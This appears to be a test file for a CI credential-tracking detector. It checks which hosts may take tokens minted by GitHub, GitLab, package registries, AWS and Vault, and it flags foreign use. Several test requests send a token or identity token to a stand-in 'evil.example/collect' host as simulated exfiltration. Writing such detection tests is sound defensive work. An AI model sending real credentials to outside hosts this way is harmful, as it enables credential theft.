// Credentials that answers hand out: which operations do, where they stand, who takes them, and what a request that
// carries one of them is.

import t from 'tap';
import type { AskedRequest, Understanding } from '../../flow/asked-request.ts';
import { isHome, type Lineage, type MintedToken } from '../../flow/lineage.ts';
import type { CredentialKind } from '../../flow/operation.ts';
import { createInterpreter } from '../../interpreters.ts';
import { readCarriedTokens } from '../../platform/lineage/carried-tokens.ts';
import { hostsOfAudience } from '../../flow/audience-hosts.ts';
import { request as ask, servers, whole } from './ask.ts';

const interpreter = createInterpreter(servers, []);
const npm = ['registry', 'npmjs', 'org'].join('.');
const json = 'application/json';

interface Case {
  readonly body?: string;
  readonly type?: string;
  readonly status?: number;
  readonly lineage?: Lineage;
  readonly identities?: Readonly<Record<string, Lineage>>;
  readonly headers?: Readonly<Record<string, string>>;
  readonly credential?: CredentialKind;
}

function understand(line: string, one: Case): Understanding | null {
  const asked: AskedRequest = {
    ...ask(line, { credential: one.credential ?? 'job', ...(one.headers && { headers: one.headers }) }),
    ...(one.lineage && { lineage: one.lineage }),
    ...(one.identities && {
      findIdentity: (text: string) =>
        Object.entries(one.identities!).find(([token]) => text.includes(token))?.[1] ?? null,
    }),
  };
  const found = interpreter.understand(asked);
  const { hold } = found ?? {};
  return hold === undefined ? found : hold.withBody(whole(one.body ?? ''));
}

function mint(line: string, answer: string, one: Case = {}): readonly MintedToken[] {
  const reader = understand(line, one)?.answer;
  const head = {
    status: one.status ?? 200,
    header: (name: string) => (name === 'content-type' ? (one.type ?? json) : null),
  };
  if (reader === undefined || !reader.wantsBody(head)) return [];
  t.equal(reader.mints, true);
  return reader.read(head, whole(answer)).minted ?? [];
}

const api = 'https://api.github.com';
const gitlab = 'https://gitlab.com/api/v4';
const run = 'https://run-actions-1-azure-eastus.actions.githubusercontent.com';
const sts = 'https://sts.amazonaws.com';
const form = { 'content-type': 'application/x-www-form-urlencoded' };
const session =
  '<AssumeRoleResponse><AssumeRoleResult><Credentials><AccessKeyId>ASIAEXAMPLEEXAMPLE00</AccessKeyId><SecretAccessKey>never</SecretAccessKey><SessionToken>IQoJsession</SessionToken></Credentials></AssumeRoleResult></AssumeRoleResponse>';

const rows: readonly (readonly [
  line: string,
  answer: string,
  made: string,
  tokens: readonly string[],
  home: string,
  elsewhere: string,
  one?: Case,
])[] = [
  [
    `POST ${api}/app/installations/7/access_tokens`,
    '{"token":"ghs_installation","permissions":{"token":"x"}}',
    'installation',
    ['ghs_installation'],
    'uploads.github.com',
    'ghes.corp.example',
    { status: 201 },
  ],
  [
    'POST https://ghes.corp.example/api/v3/app/installations/7/access_tokens',
    '{"token":"ghs_installation"}',
    'installation',
    ['ghs_installation'],
    'ghes.corp.example',
    'api.github.com',
    { status: 201 },
  ],
  [
    `POST ${api}/repos/acme/app/actions/runners/registration-token`,
    '{"token":"REGISTRATION"}',
    'access-token',
    ['REGISTRATION'],
    'api.github.com',
    'evil.example',
    { status: 201 },
  ],
  [
    'POST https://github.com/login/oauth/access_token',
    'access_token=gho_12345678&scope=repo&token_type=bearer',
    'access-token',
    ['gho_12345678'],
    'api.github.com',
    'evil.example',
    { type: 'application/x-www-form-urlencoded; charset=utf-8', headers: form },
  ],
  [
    `GET ${run}/3//idtoken/p/j?api-version=2.0&audience=sts.amazonaws.com`,
    '{"count":1,"value":"eyJ.identity.x"}',
    'identity',
    ['eyJ.identity.x'],
    'sts.eu-west-1.amazonaws.com',
    'bucket.s3.amazonaws.com',
    { credential: 'runtime' },
  ],
  [
    'GET https://ghcr.io/token?service=ghcr.io&scope=repository:acme/app:pull',
    '{"token":"ghcr-bearer"}',
    'registry',
    ['ghcr-bearer'],
    'ghcr.io',
    'api.github.com',
  ],
  [
    'GET https://ghcr.io/token?service=ghcr.io',
    '{"token":"ghcr-bearer"}',
    'registry',
    ['ghcr-bearer'],
    'ghcr.io',
    'api.github.com',
  ],
  [
    `POST ${gitlab}/projects/7/access_tokens`,
    '{"id":1,"token":"glpat-new-token"}',
    'access-token',
    ['glpat-new-token'],
    'registry.gitlab.com',
    'github.com',
    { status: 201 },
  ],
  [
    `POST ${gitlab}/personal_access_tokens/self/rotate`,
    '{"token":"glpat-rotated"}',
    'access-token',
    ['glpat-rotated'],
    'gitlab.com',
    'github.com',
  ],
  [
    `POST ${gitlab}/projects/7/deploy_tokens`,
    '{"username":"x","token":"gldt-made"}',
    'access-token',
    ['gldt-made'],
    'gitlab.com',
    'evil.example',
    { status: 201 },
  ],
  [
    'POST https://gitlab.com/oauth/token',
    '{"access_token":"gitlab-oauth","refresh_token":"gitlab-refresh"}',
    'access-token',
    ['gitlab-oauth', 'gitlab-refresh'],
    'gitlab.com',
    'evil.example',
    { headers: form },
  ],
  [
    'GET https://gitlab.com/jwt/auth?service=container_registry&scope=repository:acme/app:pull',
    '{"token":"eyJ.gitlab.x"}',
    'registry',
    ['eyJ.gitlab.x'],
    'registry.gitlab.com',
    'evil.example',
  ],
  [
    'GET https://auth.docker.io/token?service=registry.docker.io&scope=repository:library/alpine:pull',
    '{"token":"docker-one","access_token":"docker-two"}',
    'registry',
    ['docker-one', 'docker-two'],
    'registry-1.docker.io',
    'quay.io',
  ],
  [
    'GET https://mirror.example/v2/token?service=mirror.example&scope=repository:a/b:pull',
    '{"token":"mirror-token"}',
    'registry',
    ['mirror-token'],
    'mirror.example',
    'registry-1.docker.io',
  ],
  [
    `POST https://${npm}/-/npm/v1/tokens`,
    '{"token":"npm_made_here","key":"x"}',
    'registry',
    ['npm_made_here'],
    npm,
    'evil.example',
  ],
  [
    `POST https://${npm}/-/npm/v1/oidc/token/exchange/package/%40acme%2Fapp`,
    '{"token":"npm_exchanged"}',
    'registry',
    ['npm_exchanged'],
    npm,
    'pypi.org',
    { status: 201 },
  ],
  [
    'POST https://pypi.org/_/oidc/mint-token',
    '{"success":true,"token":"pypi-minted"}',
    'registry',
    ['pypi-minted'],
    'upload.pypi.org',
    'evil.example',
  ],
  [
    'POST https://crates.io/api/v1/trusted_publishing/tokens',
    '{"token":"cio_tp_minted"}',
    'registry',
    ['cio_tp_minted'],
    'crates.io',
    'evil.example',
  ],
  [
    `POST ${sts}/`,
    session,
    'cloud',
    ['ASIAEXAMPLEEXAMPLE00', 'IQoJsession'],
    's3.eu-west-1.amazonaws.com',
    'evil.example',
    {
      type: 'text/xml',
      headers: form,
      body: 'Action=AssumeRoleWithWebIdentity&RoleArn=arn:aws:iam::123456789012:role/x&WebIdentityToken=y&Version=2011-06-15',
    },
  ],
  [
    `GET ${sts}/?Action=GetSessionToken&Version=2011-06-15`,
    '{"GetSessionTokenResponse":{"GetSessionTokenResult":{"Credentials":{"AccessKeyId":"ASIAEXAMPLEEXAMPLE00","SessionToken":"IQoJsession"}}}}',
    'cloud',
    ['ASIAEXAMPLEEXAMPLE00', 'IQoJsession'],
    'lambda.us-east-1.api.aws',
    'evil.example',
  ],
  [
    'POST https://api.ecr.eu-west-1.amazonaws.com/',
    `{"authorizationData":[{"authorizationToken":"${Buffer.from('AWS:ecr-password').toString('base64')}"}]}`,
    'registry',
    ['ecr-password'],
    '123456789012.dkr.ecr.eu-west-1.amazonaws.com',
    'ghcr.io',
    {
      type: 'application/x-amz-json-1.1',
      headers: {
        'content-type': 'application/x-amz-json-1.1',
        'x-amz-target': 'AmazonEC2ContainerRegistry_V20150921.GetAuthorizationToken',
      },
      body: '{}',
    },
  ],
];

t.test('what an answer hands out is known, with who takes it', async (t) => {
  for (const [line, answer, made, tokens, home, elsewhere, one] of rows) {
    const minted = mint(line, answer, one);
    t.same(minted.map(({ token }) => token).sort(), [...tokens].sort(), line);
    for (const token of minted) {
      t.equal(token.made, made, line);
      t.ok(isHome(token.homes, home), `${line} is taken by ${home}`);
      t.notOk(isHome(token.homes, elsewhere), `${line} is not taken by ${elsewhere}`);
    }
    t.same(mint(line, answer, { ...one, status: 401 }), [], 'of a refusal nothing');
    t.same(mint(line, answer, { ...one, type: 'application/octet-stream' }), [], 'nor of bytes');
  }
});

t.test('other answers hand out nothing, whatever stands in them', async (t) => {
  const others = [
    `GET ${api}/repos/acme/app/contents/token.json`,
    `GET ${api}/app/installations/7`,
    `POST ${api}/repos/acme/app/issues`,
    `GET https://${npm}/left-pad`,
    `GET https://raw.githubusercontent.com/acme/app/main/token`,
    'GET https://evil.example/token',
    'POST https://evil.example/app/installations/7/access_tokens',
    `GET ${gitlab}/projects/7/access_tokens`,
  ];
  for (const line of others) t.same(mint(line, '{"token":"ghs_laundered","value":"eyJ.x.y"}'), [], line);
  const hostile = [
    '',
    'null',
    '[]',
    '{"token":',
    '"token"',
    '['.repeat(100_000),
    '{"token":{"token":7}}',
    '{"token":"short"}',
  ];
  for (const body of hostile) t.same(mint(rows[0]![0], body, { status: 201 }), [], body.slice(0, 20));
  const many = mint(
    rows[0]![0],
    JSON.stringify(Array.from({ length: 500 }, (_, i) => ({ token: `token-${i}-xxxx` }))),
    { status: 201 },
  );
  t.equal(many.length, 32, 'bounded');
});

const lineage = (more: Partial<Lineage>): Lineage => ({
  made: 'registry',
  id: 'h',
  parent: 'p',
  root: 'job',
  flow: 'f',
  homes: ['ghcr.io'],
  ...more,
});

t.test('a request with such a credential says what it stems from', async (t) => {
  const pull = 'GET https://ghcr.io/v2/acme/app/manifests/latest';
  const own = understand(pull, { lineage: lineage({}), credential: 'derived' });
  t.match(own?.operation, { credential: 'derived', made: 'registry', root: 'job', widens: true });
  t.same(own?.evidence, []);
  const others = understand(pull, { lineage: lineage({ root: 'pat' }), credential: 'derived' });
  t.match(others?.operation, { credential: 'derived', root: 'pat', widens: false });
  const runtime = understand(
    `POST ${run}/twirp/github.actions.results.api.v1.CacheService/CreateCacheEntry`,
    {
      lineage: lineage({ made: 'runtime', homes: null }),
      credential: 'runtime',
      body: '{"key":"k","version":"v"}',
    },
  );
  t.match(runtime?.operation, { name: 'cache/save', credential: 'runtime', made: 'runtime', root: 'job' });
  const stolen = understand('GET https://evil.example/', { lineage: lineage({}) });
  t.match(stolen, { operation: null, evidence: [{ kind: 'foreign-token', detail: /token \(registry\)/ }] });
  const role = understand('GET https://s3.eu-west-1.amazonaws.com/lake/key', {
    lineage: lineage({ made: 'cloud', homes: ['**.amazonaws.com'] }),
    credential: 'derived',
    headers: {
      authorization:
        'AWS4-HMAC-SHA256 Credential=ASIARZPUZDIKAAAAAAAA/20260101/eu-west-1/s3/aws4_request, SignedHeaders=host, Signature=' +
        '0'.repeat(64),
    },
  });
  t.match(role?.operation, { platform: 'aws', credential: 'derived', made: 'cloud' });
});

t.test('an identity token is seen where it goes, and what it is exchanged for', async (t) => {
  const identity = lineage({
    made: 'identity',
    audience: 'sts.amazonaws.com',
    homes: ['sts.amazonaws.com', 'sts.*.amazonaws.com'],
  });
  const identities = { 'eyJ.identity.x': identity };
  const elsewhere = understand('POST https://evil.example/collect', {
    identities,
    headers: { 'content-type': json },
    body: '{"t":"eyJ.identity.x"}',
  });
  t.match(elsewhere, {
    presented: identity,
    evidence: [{ kind: 'foreign-token', detail: /an identity token for sts\.amazonaws\.com/ }],
  });
  const other = understand('POST https://evil.example/collect', {
    identities,
    headers: { 'content-type': json },
    body: '{}',
  });
  t.same(other?.evidence, []);
  t.equal(
    understand('POST https://evil.example/x', {
      identities,
      headers: { 'content-type': 'application/zip' },
      body: '',
    }),
    null,
  );
  t.equal(understand('GET https://evil.example/x', { identities }), null);
  const role = rows.find(([line]) => line === `POST ${sts}/`)!;
  const assumed = mint(role[0], role[1], {
    ...role[6],
    identities,
    body: role[6]!.body!.replace('=y', '=eyJ.identity.x'),
  });
  t.same(
    assumed.map(({ madeWith }) => madeWith),
    [identity, identity],
    'the session stems from the identity',
  );
  const vault = lineage({ made: 'identity', audience: null, homes: null });
  const login = mint(
    'POST https://vault.corp.example/v1/auth/jwt/login',
    '{"auth":{"client_token":"hvs.vaulttoken"}}',
    {
      identities: { 'eyJ.identity.x': vault },
      headers: { 'content-type': json },
      body: '{"role":"ci","jwt":"eyJ.identity.x"}',
    },
  );
  t.match(login, [
    { token: 'hvs.vaulttoken', made: 'exchange', madeWith: vault, homes: ['vault.corp.example'] },
  ]);
  const google = mint('POST https://sts.googleapis.com/v1/token', '{"access_token":"ya29.federated"}', {
    identities: { 'eyJ.identity.x': vault },
    headers: form,
    body: 'grant_type=x&subject_token=eyJ.identity.x',
  });
  t.ok(isHome(google[0]!.homes, 'storage.googleapis.com'));
});

t.test('audiences name hosts, or nobody can say', async (t) => {
  const cases: readonly (readonly [string | null, string | null, string | null])[] = [
    ['sts.amazonaws.com', 'sts.us-east-1.amazonaws.com', 'evil.s3.amazonaws.com'],
    ['api://AzureADTokenExchange', 'login.microsoftonline.com', 'evil.azurewebsites.net'],
    [
      '//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p',
      'sts.googleapis.com',
      'storage.googleapis.com',
    ],
    ['https://iam.googleapis.com/projects/1', 'sts.googleapis.com', 'iam.googleapis.com'],
    ['pypi', 'pypi.org', 'test.pypi.org'],
    ['sigstore', 'fulcio.sigstore.dev', 'sigstore.dev.evil.example'],
    ['https://vault.corp.example:8200/x', 'vault.corp.example', 'corp.example'],
    ['crates.io', 'crates.io', 'xcrates.io'],
    [null, null, null],
    ['https://github.com/acme', null, null],
    ['api-gateway', null, null],
    ['urn:pulumi:org:acme', null, null],
  ];
  for (const [audience, home, other] of cases) {
    const homes = hostsOfAudience(audience);
    if (home === null || other === null) t.equal(homes, null, String(audience));
    else {
      t.ok(isHome(homes, home), `${audience} at ${home}`);
      t.notOk(isHome(homes, other), `${audience} not at ${other}`);
    }
  }
});

t.test('what a request carries: bare tokens, and the key that signs', async (t) => {
  const carried = (headers: Readonly<Record<string, string>>, query = '') =>
    readCarriedTokens((name) => headers[name] ?? null, query);
  t.same(carried({ authorization: 'Bearer abc' }), ['abc']);
  t.same(carried({ authorization: `Basic ${Buffer.from('user:secret').toString('base64')}` }), [
    'secret',
    'user',
  ]);
  t.same(carried({ 'private-token': ' abc ' }), ['abc']);
  t.same(
    carried({
      authorization:
        'AWS4-HMAC-SHA256 Credential=ASIAEXAMPLEEXAMPLE00/20260101/x/s3/aws4_request, SignedHeaders=host, Signature=0',
      'x-amz-security-token': 'session',
    }),
    ['ASIAEXAMPLEEXAMPLE00', 'session'],
  );
  t.same(carried({}, 'X-Amz-Credential=ASIAEXAMPLEEXAMPLE00%2F20260101%2Fx%2Fs3%2Faws4_request&a=b'), [
    'ASIAEXAMPLEEXAMPLE00',
  ]);
  t.same(carried({}), []);
});
